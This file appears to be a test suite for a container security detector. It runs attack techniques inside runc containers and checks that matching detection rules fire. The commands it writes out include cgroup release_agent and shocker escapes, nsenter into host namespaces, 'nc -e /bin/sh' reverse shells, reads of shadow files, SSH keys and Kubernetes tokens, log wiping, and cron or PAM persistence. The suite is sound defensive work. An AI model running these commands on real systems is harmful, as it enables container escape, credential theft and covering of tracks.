// The default rule pack against real attacks: each technique is done for real inside a runc
// container (busybox, plus the static helpers of detect-harness.ts), and the rule written for it
// must fire with the container's id and the acting process's lineage (exe and parent). The pipeline
// is the daemon's: live sensor, process and container enrichers, RuleSet.load(rules/) and the
// Detector. On a quiet host each match must come within one second of its event (techniques.test.ts);
// describeTechniques('flood') runs the same while another container floods the sensor with short
// programs (each match must still come, after the backlog; techniques-flood.test.ts).
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import { mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { RuleMatch } from '../../daemon/detect/rule-match.js';
import type { SensorStats } from '../../daemon/sensor/sensor.js';
import { execAsync, runcMissing, startContainer, type Container, type ContainerOptions } from '../runc.js';
import { BPF, assertPrerequisites } from './harness.js';
import { DetectHarness, HELPER_MOUNT, buildHelpers, helperMount, lineage, plant, type Helpers } from './detect-harness.js';

const ACT = `${HELPER_MOUNT}/vigil-act`;
/** Loops of short programs in the flooding container (flood mode). */
const FLOOD_WORKERS = 4;
/** Execs per second below which the flood mode's flood did not happen: the loops made 216-337/s on this 2-core machine with other builds running, 135-150/s at load 11. */
const FLOOD_MIN_RATE = 100;
const TECH = `${HELPER_MOUNT}/vigil-tech`;
/** From the event to the match reaching the test: on a quiet host, and behind a flood's backlog. */
const LATENCY_MS = { idle: 1000, flood: 20_000 };

export type SuiteMode = 'idle' | 'flood';

interface Technique {
  name: string;
  rule: string;
  /** Which container does it. */
  box: 'plain' | 'priv' | 'privhost' | 'hostnet';
  args: string[];
  /** The acting process's exe (the busybox binary for applets, a helper otherwise). */
  exe: RegExp;
  /** Which match of the rule is this technique's (e.g. the path it names). */
  want?: (m: RuleMatch) => boolean;
  /** Runs around the action (servers, targets); returns the args to use. */
  setup?: () => Promise<string[]> | string[];
}

export function describeTechniques(mode: SuiteMode): void {
  describe(`techniques raise their rules (real runc containers, default rule pack, ${mode === 'idle' ? 'quiet host' : 'during an exec flood from another container'})`, () => {
    let h: DetectHarness;
    let helpers: Helpers;
    const boxes: Partial<Record<Technique['box'], Container>> = {};
    let victim: Container | undefined;
    let flooder: Container | undefined;
    let floodExecsAtStart = 0;
    let floodStartedAt = 0;
    /** A host process whose namespaces and root the host-pid container reaches for (pid 1 here is the
     * machine's own supervisor, in namespaces of its own). */
    let hostSleeper: ChildProcess | undefined;
    let sockDir = '';
    let sockServer: Server | undefined;
    let shellServer: Server | undefined;
    let shellPort = 0;
    const busybox = /\/bin\/busybox$/;

    before(async () => {
      if (process.env.VIGIL_ALLOW_NO_BPF === '1' && BPF.skip) return;
      assertPrerequisites();
      const missing = runcMissing();
      if (missing) throw new Error(`technique tests need runc: ${missing}`);
      helpers = buildHelpers();
      // A stand-in for the docker API socket on the host, bind-mounted into the plain container.
      sockDir = realpathSync(mkdtempSync(join(tmpdir(), 'vgt-sock-')));
      sockServer = createServer((s) => s.end());
      sockServer.listen(join(sockDir, 'docker.sock'));
      await once(sockServer, 'listening');
      // The attacker's listener for the reverse shell: it gets a shell, keeps it a moment, exits it.
      shellServer = createServer((s) => {
        s.on('error', () => undefined);
        setTimeout(() => s.end('exit\n'), 1500);
      });
      shellServer.listen(0, '127.0.0.1');
      await once(shellServer, 'listening');
      shellPort = (shellServer.address() as { port: number }).port;

      h = await DetectHarness.start();
      const base = (o: ContainerOptions): Container => startContainer({ args: ['sleep', '600'], ...o, mounts: [helperMount(helpers), ...(o.mounts ?? [])] });
      boxes.plain = base({ mounts: [{ destination: '/run/docker.sock', source: join(sockDir, 'docker.sock') }] });
      boxes.priv = base({ privileged: true });
      boxes.privhost = base({ privileged: true, hostPid: true });
      boxes.hostnet = base({ hostNet: true });
      victim = startContainer({ args: ['sleep', '600'] });
      if (mode === 'flood') {
        const loops = Array.from({ length: FLOOD_WORKERS }, () => '(while :; do /bin/true; done) &').join(' ');
        flooder = startContainer({ args: ['timeout', '-s', 'KILL', '600', 'sh', '-c', `${loops} wait`] });
        const at = (h.stats() as { sensor: SensorStats }).sensor;
        floodExecsAtStart = (at.native?.emitted['exec'] ?? 0) + (at.native?.dropped['exec'] ?? 0);
        floodStartedAt = Date.now();
      }
      hostSleeper = spawn('sleep', ['600'], { stdio: 'ignore' });
      const rootfs = join(boxes.plain.bundle, 'rootfs');
      plant(rootfs, 'etc/shadow', 'root:$6$vigil$notarealhash:19000:0:99999:7:::\n');
      plant(rootfs, 'root/.ssh/id_rsa', '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n');
      plant(rootfs, 'var/run/secrets/kubernetes.io/serviceaccount/token', 'eyJhbGciOiJSUzI1NiJ9.not-a-token\n');
      plant(rootfs, 'var/lib/kubelet/pki/kubelet-client-current.pem', '-----BEGIN CERTIFICATE-----\n');
    });

    after(async () => {
      for (const c of Object.values(boxes)) c?.delete();
      victim?.delete();
      flooder?.delete();
      hostSleeper?.kill('SIGKILL');
      await h?.stop();
      sockServer?.close();
      shellServer?.close();
      if (sockDir) rmSync(sockDir, { recursive: true, force: true });
      helpers?.remove();
    });

    const TECHNIQUES: Technique[] = [
      {
        name: 'mount a cgroup v1 hierarchy (privileged)',
        rule: 'Sensitive filesystem mounted in container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /tmp/cg && mount -t cgroup -o none,name=vgtcg cgroup /tmp/cg'],
      },
      {
        name: 'write release_agent of that hierarchy',
        rule: 'Write to cgroup release_agent',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'echo /nonexistent-vigil-agent > /tmp/cg/release_agent'],
        want: (m) => m.message.includes('/tmp/cg/release_agent'),
      },
      {
        name: 'the release_agent chain (mount, then write)',
        rule: 'Release agent escape chain',
        box: 'priv',
        exe: busybox,
        args: [
          'sh',
          '-c',
          'mkdir -p /tmp/cg2 && mount -t cgroup -o none,name=vgtcg2 cgroup /tmp/cg2 && echo /nonexistent-vigil-agent > /tmp/cg2/release_agent; umount /tmp/cg2',
        ],
      },
      {
        name: 'write notify_on_release',
        rule: 'Write to cgroup release_agent',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /tmp/cg/x && echo 0 > /tmp/cg/x/notify_on_release; rmdir /tmp/cg/x; umount /tmp/cg'],
        want: (m) => m.message.includes('notify_on_release'),
      },
      {
        // Privileged: a read-only /proc/sys refuses the open, and the sensor reports opens that worked.
        // The value written is the one already there, so the host's setting does not change.
        name: 'write /proc/sys/kernel/core_pattern (privileged, same value)',
        rule: 'Write to kernel usermode helper from container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'v=$(cat /proc/sys/kernel/core_pattern) && echo "$v" > /proc/sys/kernel/core_pattern'],
        want: (m) => m.message.includes('core_pattern'),
      },
      {
        name: 'write another /proc/sys tunable (privileged, same value)',
        rule: 'Write to /proc/sys from container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'v=$(cat /proc/sys/vm/overcommit_memory) && echo "$v" > /proc/sys/vm/overcommit_memory'],
      },
      {
        name: 'mount proc (privileged)',
        rule: 'Sensitive filesystem mounted in container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /tmp/p && mount -t proc proc /tmp/p && umount /tmp/p'],
        want: (m) => m.message.startsWith('proc mounted'),
      },
      {
        name: 'mount the host disk read-only (privileged)',
        rule: 'Host block device mounted in container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /tmp/disk && mount -o ro /dev/vda /tmp/disk; umount /tmp/disk 2>/dev/null; true'],
      },
      {
        name: 'mknod a block device',
        rule: 'Block device node created in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mknod /tmp/blk b 254 0; true'],
      },
      {
        name: 'unshare user and mount namespaces',
        rule: 'User namespace with mount or cgroup namespace in container',
        box: 'plain',
        exe: busybox,
        args: ['unshare', '-U', '-m', '-r', 'true'],
      },
      {
        name: 'nsenter into the host mount namespace (host pid, privileged)',
        rule: 'Setns into host namespace from container',
        box: 'privhost',
        exe: busybox,
        args: [],
        setup: () => ['nsenter', '-t', String(hostSleeper!.pid), '-m', '--', '/bin/true'],
      },
      {
        name: 'nsenter executed',
        rule: 'nsenter run in container',
        box: 'privhost',
        exe: busybox,
        args: [],
        setup: () => ['nsenter', '-t', String(hostSleeper!.pid), '-u', '--', '/bin/true'],
      },
      {
        name: "chroot into a host process's /proc/<pid>/root",
        rule: "Chroot into another process's root from container",
        box: 'privhost',
        exe: busybox,
        args: [],
        setup: () => ['chroot', `/proc/${hostSleeper!.pid}/root`, '/bin/true'],
      },
      {
        name: 'read the host through /proc/<pid>/root',
        rule: "Traversal of another process's root from container",
        box: 'privhost',
        exe: busybox,
        args: [],
        setup: () => ['cat', `/proc/${hostSleeper!.pid}/root/etc/hostname`],
      },
      {
        name: 'connect to the docker socket',
        rule: 'Container runtime socket accessed from container',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'connect-unix', '/run/docker.sock'],
      },
      {
        name: 'init_module',
        rule: 'Kernel module load from container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'init-module'],
      },
      {
        name: 'BPF_PROG_LOAD',
        rule: 'BPF program load from container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'bpf-prog-load'],
      },
      {
        name: 'ptrace attach',
        rule: 'Ptrace attach or poke in container',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'ptrace-attach'],
      },
      {
        name: "ptrace another container's process across pid namespaces",
        rule: 'Ptrace across pid namespaces',
        box: 'privhost',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [],
        setup: () => [TECH, 'ptrace-pid', String(victim!.pid)],
      },
      {
        name: 'process_vm_writev',
        rule: 'Process memory written from container',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'pvm-write'],
      },
      {
        name: 'write /proc/<pid>/mem',
        rule: 'Write to process memory file',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'mem-write'],
      },
      {
        name: 'memfd fileless exec',
        rule: 'Fileless execution in container',
        box: 'plain',
        exe: /memfd|vgl-fileless/,
        args: ['sh', '-c', `${ACT} memfd-exec; true`],
      },
      {
        name: 'execute from /dev/shm (privileged, shm remounted exec)',
        rule: 'Execution from /dev/shm or memory filesystem',
        box: 'priv',
        exe: /^\/dev\/shm\/sleep$/,
        args: ['sh', '-c', 'mount -o remount,exec /dev/shm && cp /bin/busybox /dev/shm/sleep && /dev/shm/sleep 1'],
      },
      {
        name: 'execute a binary dropped after start',
        rule: 'Drop and execute new binary in container',
        box: 'plain',
        exe: /^\/tmp\/sleep$/,
        args: ['sh', '-c', 'cp /bin/busybox /tmp/sleep && /tmp/sleep 1'],
      },
      {
        name: 'setuid program run by a non-root user (privileged: no no_new_privs)',
        rule: 'Setuid program raised privileges in container',
        box: 'priv',
        exe: /suid-tech$/,
        args: [TECH, 'as-user', '1000', `${HELPER_MOUNT}/suid-tech`, 'sleep', '0.5'],
      },
      {
        name: 'capabilities gained through that setuid program',
        rule: 'Capabilities gained in container',
        box: 'priv',
        exe: /suid-tech$/,
        args: [TECH, 'as-user', '1000', `${HELPER_MOUNT}/suid-tech`, 'sleep', '0.5'],
      },
      {
        name: 'effective uid back to root (privileged: CAP_SETUID)',
        rule: 'Non-root process became root in container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'uid-dance'],
      },
      {
        name: 'io_uring_setup',
        rule: 'io_uring set up in container',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'io-uring-setup'],
      },
      {
        name: 'userfaultfd',
        rule: 'userfaultfd set up in container',
        box: 'plain',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'uffd'],
      },
      {
        // Refused or not (vm.unprivileged_userfaultfd), the attempt is what the rule reports.
        name: 'userfaultfd by an unprivileged user (privileged box: setgroups for as-user)',
        rule: 'userfaultfd set up in container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'as-user', '1000', TECH, 'uffd'],
        want: (m) => m.message.includes('uid=1000'),
      },
      {
        name: 'read /etc/shadow',
        rule: 'Read of shadow file in container',
        box: 'plain',
        exe: busybox,
        args: ['cat', '/etc/shadow'],
      },
      {
        name: 'read an SSH private key',
        rule: 'Read of SSH keys in container',
        box: 'plain',
        exe: busybox,
        args: ['cat', '/root/.ssh/id_rsa'],
      },
      {
        name: 'read the service-account token',
        rule: 'Kubernetes service account token read by shell tool',
        box: 'plain',
        exe: busybox,
        args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
      },
      {
        name: 'read kubelet PKI',
        rule: 'Kubelet or cluster PKI read from container',
        box: 'plain',
        exe: busybox,
        args: ['cat', '/var/lib/kubelet/pki/kubelet-client-current.pem'],
      },
      {
        name: 'reverse shell (nc -e /bin/sh to a listener)',
        rule: 'Reverse shell in container',
        box: 'hostnet',
        exe: busybox,
        args: [],
        setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/sh'],
      },
      {
        name: 'reverse shell running a command (nc -e sh -c CMD: stdio on a TCP socket)',
        rule: 'Reverse shell in container',
        box: 'hostnet',
        exe: busybox,
        args: [],
        setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/sh', '-c', 'id; sleep 1'],
        want: (m) => /stdin=socket\(inet\)/.test(m.message),
      },
      {
        // CAP_DAC_READ_SEARCH (the privileged box has it): a handle for inode 2 of the filesystem the
        // container's root lives on opens the host's root directory.
        name: 'open_by_handle_at of the host root (shocker)',
        rule: 'Open by file handle from container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-act$/,
        args: [ACT, 'open-by-handle', '/'],
      },
      {
        name: 'a miner with a stratum pool URL',
        rule: 'Crypto miner in container',
        box: 'plain',
        exe: busybox,
        args: ['/bin/busybox', 'true', '--url', 'stratum+tcp://pool.example.org:3333', '--user', 'wallet'],
      },
      {
        name: 'find looking for private keys',
        rule: 'Search for private keys or cloud credentials in container',
        box: 'plain',
        exe: busybox,
        args: ['find', '/', '-xdev', '-name', 'id_rsa'],
      },
      {
        name: 'grep for PRIVATE KEY run from a shell',
        rule: 'Search for private keys or cloud credentials in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'grep -rl "PRIVATE KEY" /root /etc; true'],
      },
      {
        name: 'shell history removed',
        rule: 'Shell history or logs erased in container',
        box: 'plain',
        exe: busybox,
        // busybox ash runs rm inside the shell, with no exec: the kernel's unlink of a watched name.
        args: ['sh', '-c', 'echo ls > /root/.ash_history; rm -f /root/.ash_history'],
        want: (m) => m.message.includes('op=unlink'),
      },
      {
        name: 'a log under /var/log removed',
        rule: 'Shell history or logs erased in container',
        box: 'plain',
        exe: busybox,
        args: ['rm', '-f', '/var/log/auth.log'],
      },
      {
        name: 'shell history pointed at /dev/null',
        rule: 'Shell history or logs erased in container',
        box: 'plain',
        exe: busybox,
        args: ['ln', '-sf', '/dev/null', '/root/.bash_history'],
      },
      {
        name: 'nc -e whose connect fails',
        rule: 'Netcat with command execution in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'nc -e /bin/sh 127.0.0.1 9; true'],
      },
      {
        name: 'shred a file',
        rule: 'Shell history or logs erased in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo x > /tmp/vgt-shred && shred -u /tmp/vgt-shred'],
        want: (m) => m.message.includes('shred'),
      },
      {
        // arping opens an AF_PACKET socket before anything else (sent whether or not CAP_NET_RAW allows it).
        name: "a packet socket (arping on the container's loopback)",
        rule: 'Packet or raw socket opened in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'arping -c 1 -w 1 -I lo 127.0.0.1; true'],
        want: (m) => m.message.startsWith('AF_PACKET'),
      },
      {
        name: 'a TCP socket made stdin and stdout (nc -e to a listener)',
        rule: 'Network socket made a standard stream in container',
        box: 'hostnet',
        exe: busybox,
        args: [],
        setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/true'],
      },
      {
        // The container's network namespace has no route there: the connect fails at once and no
        // packet leaves; the attempt is what the rule reports.
        name: 'contact the cloud metadata address (no route: nothing is sent)',
        rule: 'Cloud metadata service contacted from container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'nc 169.254.169.254 80 </dev/null; true'],
      },
      {
        name: 'chmod u+s on a copied shell',
        rule: 'Setuid or setgid bit set in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'cp /bin/busybox /tmp/vgt-suid && chmod u+s /tmp/vgt-suid'],
      },
      {
        name: 'a script written and made executable after start',
        rule: 'File made executable in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo "echo hi" > /tmp/vgt-run.sh && chmod 755 /tmp/vgt-run.sh && /tmp/vgt-run.sh'],
        want: (m) => m.message.includes('/tmp/vgt-run.sh'),
      },
      {
        name: 'mkdir below /usr/local/bin',
        rule: 'Directory created in a binary directory in container',
        box: 'plain',
        exe: busybox,
        args: ['mkdir', '-p', '/usr/local/bin/vgt-dir'],
      },
      {
        name: 'a hidden directory under /tmp',
        rule: 'Hidden directory created in container',
        box: 'plain',
        exe: busybox,
        args: ['mkdir', '/tmp/.vgt-stash'],
      },
      {
        name: 'a program written into /bin',
        rule: 'Binary directory modified in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo x > /bin/vgt-planted'],
        want: (m) => m.message.includes('op=open'),
      },
      {
        name: 'a program renamed in /bin',
        rule: 'Binary directory modified in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'cp /bin/busybox /bin/vgt-a && mv /bin/vgt-a /bin/vgt-b'],
        want: (m) => m.message.includes('op=rename'),
      },
      {
        name: 'the dpkg status file appended to',
        rule: 'Package database modified in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /var/lib/dpkg && echo "Package: vgt" >> /var/lib/dpkg/status'],
      },
      {
        name: 'the apk database written',
        rule: 'Package database modified in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /var/lib/apk && echo "P:vgt" >> /var/lib/apk/installed'],
        want: (m) => m.message.includes('/var/lib/apk/installed'),
      },
      {
        name: 'a shared library written into /usr/lib',
        rule: 'Library directory modified in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /usr/lib/security && echo x > /usr/lib/security/pam_vgt.so'],
        want: (m) => m.message.includes('/usr/lib/security/pam_vgt.so'),
      },
      {
        name: 'a file written below /etc',
        rule: 'Write below /etc in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo "nameserver 203.0.113.9" > /etc/vgt-resolv.conf'],
        want: (m) => m.message.includes('/etc/vgt-resolv.conf'),
      },
      {
        name: 'a file renamed into /etc',
        rule: 'Write below /etc in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo "x" > /tmp/vgt-group && mv /tmp/vgt-group /etc/vgt-group'],
        want: (m) => m.message.includes('op=rename'),
      },
      {
        name: 'a tool dropped below /root',
        rule: 'Write below /root in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo x > /root/vgt-tool'],
        want: (m) => m.message.includes('/root/vgt-tool'),
      },
      {
        name: 'a file hidden by rename',
        rule: 'File hidden by rename in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo loot > /tmp/vgt-loot && mv /tmp/vgt-loot /tmp/.vgt-loot'],
        want: (m) => m.message.includes('/tmp/.vgt-loot'),
      },
      {
        name: 'a directory hidden by rename',
        rule: 'File hidden by rename in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /tmp/vgt-dir && mv /tmp/vgt-dir /tmp/.vgt-dir'],
        want: (m) => m.message.includes('/tmp/.vgt-dir'),
      },
      {
        // CVE-2019-5736's last step: a program reached through a descriptor of /proc, written in place
        name: 'a program overwritten through /proc/self/fd',
        rule: 'Program or file written through a /proc magic link in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'cp /bin/busybox /tmp/vgt-entry && exec 3</tmp/vgt-entry && echo x > /proc/self/fd/3'],
        want: (m) => m.message.includes('/tmp/vgt-entry') && m.message.includes('/proc/self/fd/3'),
      },
      {
        name: 'a symlink to /etc/shadow',
        rule: 'Link to a sensitive file in container',
        box: 'plain',
        exe: busybox,
        args: ['ln', '-sf', '/etc/shadow', '/tmp/vgt-shadow-sym'],
        want: (m) => m.message.startsWith('symlink'),
      },
      {
        name: 'a hard link to /etc/shadow',
        rule: 'Link to a sensitive file in container',
        box: 'plain',
        exe: busybox,
        args: ['ln', '-f', '/etc/shadow', '/vgt-shadow-hard'],
        want: (m) => m.message.startsWith('link'),
      },
      {
        name: 'a hidden file written under /tmp',
        rule: 'Hidden file created in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo loot > /tmp/.vgt-hidden'],
      },
      {
        // cp gives the copy its source's mode: the file is created executable.
        name: 'a program copied in, created executable',
        rule: 'Executable file created in container',
        box: 'plain',
        exe: busybox,
        args: ['cp', '/bin/busybox', '/tmp/vgt-dropped'],
      },
      {
        name: 'a regular file created in /dev',
        rule: 'File created in /dev in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo x > /dev/vgt-devfile'],
      },
      {
        name: 'a cron job appended to /etc/crontab',
        rule: 'Persistence or login configuration written in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo "* * * * * root /tmp/vgt-run.sh" >> /etc/crontab'],
        want: (m) => m.message.startsWith('/etc/crontab'),
      },
      {
        name: "root's .profile appended to",
        rule: 'Persistence or login configuration written in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'echo "/tmp/vgt-run.sh &" >> /root/.profile'],
        want: (m) => m.message.startsWith('/root/.profile'),
      },
      {
        name: 'a PAM module dropped below /lib/security',
        rule: 'Persistence or login configuration written in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /lib/security && echo x > /lib/security/pam_vgt.so'],
        want: (m) => m.message.startsWith('/lib/security/pam_vgt.so'),
      },
      {
        name: 'a systemd unit moved into /etc/systemd/system',
        rule: 'Persistence or login configuration written in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'mkdir -p /etc/systemd/system && echo "[Service]" > /tmp/vgt.service && mv /tmp/vgt.service /etc/systemd/system/vgt.service'],
        want: (m) => m.message.includes('op=rename') || m.message.includes('/etc/systemd/system/vgt.service'),
      },
      {
        name: 'setuid(0) by a non-root user (privileged: setgroups for as-user)',
        rule: 'Refused setuid in container',
        box: 'priv',
        exe: /\/opt\/vigil\/vigil-tech$/,
        args: [TECH, 'as-user', '1000', TECH, 'setuid-root'],
      },
      {
        name: 'GLIBC_TUNABLES passed through env',
        rule: 'GLIBC_TUNABLES set for a program in container',
        box: 'plain',
        exe: busybox,
        args: ['env', 'GLIBC_TUNABLES=glibc.malloc.mxfast=0', '/bin/true'],
      },
      {
        name: 'an interactive shell as the daemon account (uid 2)',
        rule: 'Interactive shell of a system account in container',
        box: 'priv',
        exe: busybox,
        args: ['sh', '-c', `${TECH} as-user 2 /bin/sh -i </dev/null`],
      },
      {
        name: 'unshare a network namespace',
        rule: 'Namespace change attempted in container',
        box: 'plain',
        exe: busybox,
        args: ['unshare', '-n', 'true'],
      },
      {
        // A process whose comm is nginx (busybox run through a link of that name, as ash) runs a shell.
        name: 'a shell started by a web server',
        rule: 'Shell spawned by a web server in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'ln -sf /bin/busybox /tmp/nginx && (exec -a sh /tmp/nginx -c "sh -c id; true")'],
      },
      {
        name: 'a program started by a database server',
        rule: 'Database server spawned a process in container',
        box: 'plain',
        exe: busybox,
        args: ['sh', '-c', 'ln -sf /bin/busybox /tmp/mysqld && (exec -a sh /tmp/mysqld -c "/bin/sh -c id; true")'],
      },
    ];

    for (const t of TECHNIQUES) {
      test(`${t.name} -> ${t.rule}`, { ...BPF, timeout: 20000 + LATENCY_MS[mode] }, async () => {
        const c = boxes[t.box]!;
        const args = t.setup ? await t.setup() : t.args;
        const t0 = Date.now();
        const r = await execAsync(c, args);
        const t1 = Date.now();
        const seen = await h
          .waitMatch(t.rule, (m) => m.container.id === c.id && m.time >= t0 - 2 && (t.want?.(m) ?? true), Math.max(3000, LATENCY_MS[mode] + 2000))
          .catch((err: Error) => {
            err.message += `\naction exit ${r.code}: ${r.out.trim().slice(0, 400)}`;
            throw err;
          });
        const m = seen.match;
        assert.equal(m.container.id, c.id);
        assert.ok(m.time <= t1 + 5, `event time ${m.time} after the action ended ${t1}`);
        assert.ok(seen.at - m.time <= LATENCY_MS[mode], `match ${seen.at - m.time} ms after its event (limit ${LATENCY_MS[mode]})`);
        const l = lineage(m);
        assert.match(l.exe ?? '', t.exe, `exe of ${JSON.stringify(l)}`);
        assert.ok(l.parentComm || l.parentExe, `no parent in the lineage: ${JSON.stringify(l)}`);
      });
    }

    if (mode === 'flood') {
      // The flood above must have been one: the flooder's execs reached the probe (sent or dropped)
      // at a rate no ordinary workload makes, for the whole of the suite.
      test('the flood was real while the techniques ran', BPF, (t) => {
        const now = (h.stats() as { sensor: SensorStats }).sensor;
        const execs = (now.native?.emitted['exec'] ?? 0) + (now.native?.dropped['exec'] ?? 0) - floodExecsAtStart;
        const seconds = (Date.now() - floodStartedAt) / 1000;
        t.diagnostic(
          `flood: ${execs} execs in ${seconds.toFixed(1)} s (${Math.round(execs / seconds)}/s); sent ${now.native?.emitted['exec']}, dropped ${now.native?.dropped['exec']} in all`,
        );
        assert.ok(execs / seconds >= FLOOD_MIN_RATE, `only ${Math.round(execs / seconds)} execs/s from the flooder`);
      });
    }

    test('a privileged container start raises the posture rule', BPF, async () => {
      const c = boxes.priv!;
      await h.waitMatch('Privileged container started', (m) => m.container.id === c.id, 3000);
    });

    test('a host-pid container start raises the host-namespace rule', BPF, async () => {
      const c = boxes.privhost!;
      await h.waitMatch('Container started in host pid, ipc or mount namespace', (m) => m.container.id === c.id, 3000);
    });
  });
}
